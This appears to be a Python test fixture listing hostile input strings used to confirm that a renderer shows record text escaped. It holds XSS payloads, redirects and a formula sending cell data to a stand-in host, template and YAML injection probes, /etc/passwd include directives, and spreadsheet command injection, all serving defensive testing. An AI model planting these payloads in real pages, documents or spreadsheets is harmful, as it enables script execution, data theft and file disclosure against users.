"""Texts that do something wherever they are not shown as text. Each is legal in a record and must be seen as written."""

from __future__ import annotations

import csv

import yaml

from tests.conftest import SHARED

# `hit()` is defined by the browser tests, which count its calls; no host of these texts may be asked for anything.
TEXTS: tuple[str, ...] = (
    "<script>hit()</script>",
    "</title></head><script>hit()</script>",
    "</textarea></template></noscript></style></script><script>hit()</script>",
    "<!--<script>",
    "--><img src=x onerror=hit()>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    '" onmouseover="hit()" autofocus onfocus="hit()" x="',
    "' onmouseover='hit()' autofocus onfocus='hit()' x='",
    "x onfocus=hit() autofocus tabindex=1",
    "` onmouseover=`hit()`",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<base href="https://elsewhere.example/">',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">',
    '<object data="data:text/html,<script>hit()</script>"></object><embed src="javascript:hit()">',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    '<form action="https://elsewhere.example/"><input name=q autofocus onfocus=hit()></form>',
    "<style>@import url(https://elsewhere.example/x.css);</style><link rel=stylesheet href=//elsewhere.example/x.css>",
    "<a id=__search></a><form id=document name=cookie><img name=getElementById>",
    '<a href="javascript:hit()">click</a>',
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜script＞hit()＜/script＞",
    "[click](javascript:hit()) and [click](javascript&colon;hit())",
    "![x](https://elsewhere.example/t.png)",
    "[x](https://example.org){: onclick=hit() }",
    "--8<-- \"/etc/passwd\" {% include '/etc/passwd' %} {!/etc/passwd!} ::: os.system",
    "{{ config }} {{ self.__init__.__globals__ }} {{ 7*7 }}",
    "{# this comment never ends {% raw %}",
    "@@atlas-content@@ @@atlas-head@@ @@atlas-title@@",
    '[](atlas:model/toy-ct) and <a href="atlas:count/models">n</a>',
    "!ENV [PATH, x] !!python/name:os.system &a *a",
    "$$\\href{javascript:hit()}{x}$$ \\input{/etc/passwd} \\write18{id}",
    "a | b | c\\| d",
    "*[LLM]: planted [^1] [TOC] ~~x~~ **y** `z`",
    "Good&Tidy &copy; &nbsp; &#x3c; &lt;b&gt;",
    '=HYPERLINK("https://elsewhere.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 and -1+1 and '=1+1",
    '","entries":[[0,"x","y"]],"a":"',
    "constructor __proto__ toString hasOwnProperty",
    "p < 0.05 and AUC > 0.9 & n = 3; a<b>c",
    "100% of $5 ~ ^ _x_ #1 {x} C:\\new\\table",
    "灵医大模型 طب Med רפואה नमस्ते α-synuclein β₂ 🧠 ṩ̣",
    "“quoted” ‘single’ \"plain\" 'tick'",
)


def _shared() -> tuple[str, ...]:
    """The texts of the shared collection that are to be shown as written, where it is at hand; one line each, as ours."""
    manifest = SHARED / "hostile" / "manifest.csv"
    if not manifest.is_file():
        return ()
    rows = csv.DictReader(manifest.read_text(encoding="utf-8").splitlines())
    named = [row for row in rows if row["kind"] == "yaml" and row["expected"] == "escaped" and "." not in row["field"]]
    records = [
        (yaml.safe_load((manifest.parent / row["file"]).read_text(encoding="utf-8")), row["field"]) for row in named
    ]
    return tuple(dict.fromkeys(record[field] for record, field in records if "\n" not in record[field]))


ALL = (*TEXTS, *(text for text in _shared() if text not in TEXTS))
"""Our own texts, and those of the shared collection where it is at hand."""
